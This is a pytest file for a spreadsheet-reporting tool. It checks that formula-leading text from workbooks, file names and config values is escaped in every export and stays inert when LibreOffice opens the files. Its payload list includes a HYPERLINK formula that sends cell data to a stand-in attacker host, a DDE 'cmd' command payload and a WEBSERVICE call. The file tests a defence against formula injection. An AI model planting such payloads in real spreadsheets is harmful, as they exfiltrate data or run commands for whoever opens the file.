"""Formula injection: text from workbooks and file names never becomes a live formula in an .xlsx we write.

Checked the way a victim would meet it: the outputs opened by LibreOffice (headless), every sheet
exported to CSV, and no payload evaluated.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from kinerja.spreadsheet import FORMULA_STARTS, neutralize

SCRIPT = str(Path(sys.executable).parent / "kinerja")
PAYLOADS = [
    '=HYPERLINK("http://penyerang.invalid/?d="&A1,"klik di sini")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://penyerang.invalid/")',
    "+2+3",
    "-4+5",
    "@SUM(6,7)",
    "\t=8+9",
    "\r=10+11",
]


def test_the_rule():
    for text in PAYLOADS:
        assert neutralize(text) == "'" + text
    assert neutralize("Tidak ada kendala") == "Tidak ada kendala" and neutralize(12.5) == 12.5
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def _poison(source: Path, target: Path) -> None:
    """Put the payloads as TEXT cells into the Indikator and Kendala columns of a real workbook."""
    from openpyxl import load_workbook

    book = load_workbook(source)
    sheet = book["Rencana Aksi"]
    for index, text in enumerate(PAYLOADS):
        cell = sheet[f"{'AG' if index % 2 else 'AH'}{8 + index // 2}"]  # Kendala / Tindak Lanjut of the first rows
        cell.value = text
        cell.data_type = "s"  # a string in the file, as a spreadsheet program stores typed text
    book.save(target)


def _sheets_as_csv(workbook: Path, folder: Path, profile: Path) -> list[str]:
    """All sheets of ``workbook`` as LibreOffice computes them, exported to CSV (one file per sheet)."""
    office = shutil.which("libreoffice") or shutil.which("soffice")
    assert office, "LibreOffice is installed by scripts/install-system-deps.sh"
    folder.mkdir()
    subprocess.run([office, "--headless", f"-env:UserInstallation=file://{profile}", "--convert-to",
                    'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
                    "--outdir", str(folder), str(workbook)], check=True, capture_output=True, timeout=240)
    cells: list[str] = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            cells.extend(cell for row in csv.reader(handle) for cell in row)
    assert cells, f"LibreOffice exported nothing from {workbook}"
    return cells


@pytest.mark.slow
def test_outputs_opened_in_libreoffice_evaluate_no_payload(sample_year, tmp_path):
    _raw, workbooks = sample_year
    source = next(p for p in workbooks if "triwulan-1" in str(p) and "irban-1" in p.name)
    folder = tmp_path / "masuk"
    folder.mkdir()
    poisoned = folder / "=2+3.xlsx"  # a file name is text in the outputs, too
    _poison(source, poisoned)
    capaian = tmp_path / "capaian.xlsx"
    from kinerja.paths import SAMPLE_CONFIG

    done = subprocess.run([SCRIPT, "--konfigurasi", str(SAMPLE_CONFIG), "capaian", poisoned.name, "--tahun", "2025", "--triwulan", "1", "--format", "xlsx",
                           "--keluaran", str(capaian)], capture_output=True, text=True, timeout=120, cwd=folder)
    assert done.returncode == 0, done.stderr
    subprocess.run([SCRIPT, "--konfigurasi", str(SAMPLE_CONFIG), "validasi", str(poisoned), "--tahun", "2025", "--triwulan", "1", "--tandai",
                    str(tmp_path / "bertanda")], capture_output=True, text=True, timeout=120)
    [annotated] = (tmp_path / "bertanda").glob("*.xlsx")
    for output, name in ((capaian, "capaian"), (annotated, "bertanda")):
        cells = set(_sheets_as_csv(output, tmp_path / f"csv-{name}", tmp_path / "lo"))
        # an evaluated formula shows its result, not its text: every payload is still there as text
        for text in PAYLOADS:  # (the capaian table has the reader's text: a leading tab or CR stripped)
            assert "'" + text in cells or "'" + text.strip() in cells, (name, text)
        assert "klik di sini" not in cells and not any(c.startswith(("#NAME", "Err:", "#VALUE")) for c in cells), name
        if name == "capaian":  # the file name (given relative, as typed) is a column there, shown as text
            assert "'=2+3.xlsx" in cells, [c for c in cells if "2+3" in c]


def _live(path: Path) -> tuple[int, list[str]]:
    """(live cells, every text) of an .xlsx or .csv as a spreadsheet program would open it: a formula
    cell, or text that starts like a formula (in a CSV every such field is evaluated)."""
    from openpyxl import load_workbook

    texts: list[str] = []
    live = 0
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                texts.extend(row)
                live += sum(1 for cell in row if cell.startswith(FORMULA_STARTS))
        return live, texts
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    live += 1
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    return live, texts


def test_every_export_of_the_sample_writes_no_live_cell(sample_year, tmp_path, monkeypatch):
    """validasi (csv, xlsx, --tandai), capaian (csv, xlsx, --proyeksi csv/xlsx) and status (csv, xlsx) of the
    sample with formula-leading texts in the workbook, its file name and a person's name: 0 live cells."""
    from click.testing import CliRunner

    from kinerja.alur.workflow import act
    from kinerja.cli.commands import main
    from kinerja.paths import SAMPLE_CONFIG, Workspace

    _raw, workbooks = sample_year
    ws = Workspace(tmp_path / "ruang")
    folder = ws.raw_for(2025, 1)
    folder.mkdir(parents=True)
    source = next(p for p in workbooks if "triwulan-1" in str(p) and "irban-1" in p.name)
    poisoned = folder / "=2+3.xlsx"
    _poison(source, poisoned)
    from openpyxl import load_workbook

    book = load_workbook(poisoned)
    book["Rencana Aksi"]["C8"].value = PAYLOADS[0]  # Indikator Kinerja (a column of every capaian export)
    book["Rencana Aksi"]["C8"].data_type = "s"
    book["Rencana Aksi"]["L8"].value = "-banyak"  # Realisasi TW I: a galat, so validasi has rows to export
    book["Rencana Aksi"]["L8"].data_type = "s"
    book.save(poisoned)
    monkeypatch.chdir(folder)  # the file named as typed, relative: the name itself is a column
    config_text = SAMPLE_CONFIG.read_text(encoding="utf-8")
    config_text = config_text.replace('nama = "Hj. Siti', 'nama = "=HYPERLINK(1)+Siti', 1)
    ws.config_file.write_text(config_text, encoding="utf-8")
    from kinerja.config import load_config

    act(ws, load_config(ws.config_file), "tugaskan", 2025, 1, username="siti", penerima="budi")  # status: next is Siti
    out = tmp_path / "keluar"
    out.mkdir()

    def run(*args: str) -> None:
        result = CliRunner().invoke(main, ["--ruang-kerja", str(ws.root), *args])
        assert result.exit_code in (0, 1) and "Traceback" not in result.output, (args, result.output)

    quarter = ("--tahun", "2025", "--triwulan", "1")
    for fmt in ("csv", "xlsx"):
        run("validasi", poisoned.name, *quarter, "--format", fmt, "--keluaran", str(out / f"validasi.{fmt}"))
        run("capaian", poisoned.name, *quarter, "--format", fmt, "--keluaran", str(out / f"capaian.{fmt}"))
        run("status", "--tahun", "2025", "--format", fmt, "--keluaran", str(out / f"status.{fmt}"))
    run("validasi", poisoned.name, *quarter, "--tandai", str(out / "bertanda"))
    proyeksi = [p.opts[0] for p in main.commands["capaian"].params if p.opts[0] == "--proyeksi"]
    for fmt in ("csv", "xlsx") if proyeksi else ():
        run("capaian", poisoned.name, "--tahun", "2025", "--triwulan", "1", "--proyeksi", "--format", fmt,
            "--keluaran", str(out / f"proyeksi.{fmt}"))
    written = sorted(p for p in out.rglob("*") if p.suffix in (".csv", ".xlsx"))
    assert {p.stem for p in written} >= {"validasi", "capaian", "status", "=2+3-bertanda"}, written
    counts = {p.name: _live(p) for p in written}
    assert {name: live for name, (live, _) in counts.items()} == {p.name: 0 for p in written}
    texts = {name: texts for name, (_, texts) in counts.items()}
    # the texts are there, shown as text: the workbook's, the file name and the person's name
    assert any(t.startswith("'=HYPERLINK(\"http://penyerang") for t in texts["capaian.csv"])
    assert "'=2+3.xlsx" in texts["validasi.csv"] and "'=2+3.xlsx" in texts["validasi.xlsx"]
    assert any(t.startswith("'=HYPERLINK(1)+Siti") for t in texts["status.csv"] + texts["status.xlsx"])
